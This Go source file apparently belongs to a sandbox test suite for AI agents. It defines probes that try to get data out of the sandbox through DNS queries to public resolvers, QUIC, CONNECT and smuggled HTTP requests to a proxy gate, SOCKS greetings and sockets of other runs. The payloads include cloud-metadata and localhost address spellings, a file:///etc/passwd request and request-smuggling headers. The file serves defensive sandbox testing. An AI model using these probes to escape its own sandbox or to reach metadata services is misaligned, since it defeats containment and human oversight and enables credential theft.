package probe

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// exfilProbes try to get data out, not to get in: it is enough that a packet
// leaves, or that somebody outside is asked.
func exfilProbes() []Probe {
	return []Probe{
		{"name-leak", "puts data into name queries, by every protocol that carries them", Network, ways(nameLeak)},
		{"quic", "sends datagrams to where QUIC is served", Network, ways(quic)},
		{"gate-as-relay", "asks the gate for resolvers, mail and other hosts that pass data on, in every spelling", Network, ways(gateAsRelay)},
		{"other-run", "connects to sockets of other runs and to every abstract socket that is listed", Network, ways(otherRun)},
	}
}

// leakQuery asks for a name that carries data.
const leakQuery = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x10ralph-probe-leak\x07example\x03com\x00\x00\x10\x00\x01"

// nameLeak goes beside the plain query of the probe dns: TCP, TLS, HTTPS and the
// protocols by which neighbours ask each other.
func nameLeak(Facts) []way {
	ask := func(to netip.AddrPort) error { return leaves(sendUDP(to, []byte(leakQuery))) }
	return append(
		eachAddress("ask", ask,
			"8.8.4.4:53", "9.9.9.9:53", "208.67.222.222:5353", "[2001:4860:4860::8844]:53", "[2620:fe::fe]:53",
			"224.0.0.251:5353", "224.0.0.252:5355", "255.255.255.255:137", "[ff02::fb]:5353", "[ff02::1:3]:5355"),
		eachAddress("connect to", tcpOut,
			"8.8.4.4:53", "9.9.9.9:853", "1.0.0.1:853", "8.8.8.8:443", "1.0.0.1:443", "[2606:4700:4700::1001]:853", "[2620:fe::fe]:443")...)
}

func quic(Facts) []way {
	return eachAddress("send to", udpOut,
		"1.1.1.1:443", "8.8.8.8:443", "9.9.9.9:784", "1.1.1.1:853", "[2606:4700:4700::1111]:443", "192.0.2.1:443")
}

// gateAsRelay wants each refused. What the user allows does not matter: none of
// these is anything that an agent is given.
func gateAsRelay(f Facts) []way {
	gate, err := netip.ParseAddrPort(f.Gate)
	if err != nil {
		return nil
	}
	var list []way
	for _, to := range []string{
		"8.8.8.8:53", "1.1.1.1:853", "[2606:4700:4700::1111]:53", "192.0.2.1:25", "192.0.2.1:22",
		"0.0.0.0:80", "0:80", "[::]:80", "127.1:80", "0x7f.1:80", "2130706433:80", "0177.0.0.1:80", "[::1]:80", "[::ffff:127.0.0.1]:80", "localhost:80",
		"169.254.169.254:80", "2852039166:80", "[::ffff:a9fe:a9fe]:80", "[64:ff9b::a9fe:a9fe]:80", "[2002:a9fe:a9fe::1]:80", "[fd00:ec2::254]:80",
		"metadata.google.internal:80", "ralph-probe-leak.invalid:443", "ralph-probe-leak.invalid@127.0.0.1:80", "127.0.0.1%00.invalid:80",
	} {
		request := "CONNECT " + to + " HTTP/1.1\r\nHost: " + to + "\r\n\r\n"
		list = append(list, way{"CONNECT " + to, func() error { return f.askGate(gate, request) }})
	}
	for what, raw := range map[string]string{
		"HTTP/2":              "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"a URL of https":      "GET https://ralph-probe-leak.invalid/ HTTP/1.1\r\nHost: ralph-probe-leak.invalid\r\n\r\n",
		"a URL of ftp":        "GET ftp://ralph-probe-leak.invalid/ HTTP/1.1\r\nHost: ralph-probe-leak.invalid\r\n\r\n",
		"a URL of a file":     "GET file:///etc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n",
		"a URL with a name":   "GET http://ralph-probe-leak.invalid/ HTTP/1.1\r\nHost: ralph-probe-leak.invalid\r\n\r\n",
		"two hosts":           "GET http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: ralph-probe-leak.invalid\r\n\r\n",
		"two lengths":         "POST http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"a refusal, and more": "CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\nGET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
	} {
		list = append(list, way{what, func() error { return f.askGate(gate, raw) }})
	}
	return append(list,
		way{"SOCKS5", func() error { return speaks(gate, "\x05\x01\x00\r\n\r\n", "\x05\x00") }},
		way{"SOCKS4", func() error { return speaks(gate, "\x04\x01\x00\x35\x08\x08\x08\x08\x00\r\n\r\n", "\x00\x5a") }})
}

// speaks works when the answer to a greeting begins as it does in its protocol.
func speaks(to netip.AddrPort, greeting, answer string) error {
	family, sa := sockaddr(to)
	fd, err := dial(family, unix.SOCK_STREAM, 0, sa)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(greeting)); err != nil {
		return err
	}
	if !ready(fd, unix.POLLIN) {
		return errTimeout
	}
	got := make([]byte, 256)
	n, err := unix.Read(fd, got)
	if err != nil {
		return err
	}
	if strings.HasPrefix(string(got[:max(n, 0)]), answer) {
		return nil
	}
	return fmt.Errorf("it said %.60q", got[:max(n, 0)])
}

// otherRun also tries what the kernel lists: an abstract socket has no file that
// could be hidden, only a namespace.
func otherRun(f Facts) []way {
	var paths []string
	if f.SiblingRun != "" {
		paths = expand(filepath.Join(f.SiblingRun, "*.sock"), filepath.Join(f.SiblingRun, "*", "*.sock"))
	}
	paths = append(paths, expand("/run/user/*/ralph/*", "/run/user/*/ralph/*/*", "/tmp/ralph*/*", "/var/tmp/ralph*/*")...)
	return eachPath("connect to", connectUnix, append(paths, abstractNames()...)...)
}

// abstractNames are those of listening sockets, which the flag 10000 marks.
func abstractNames() []string {
	table, _ := os.ReadFile("/proc/net/unix") // without the file there is no table
	var names []string
	for line := range strings.Lines(string(table)) {
		if f := strings.Fields(line); len(f) > 7 && f[3] == "00010000" && strings.HasPrefix(f[7], "@") {
			names = append(names, f[7])
		}
	}
	return names
}
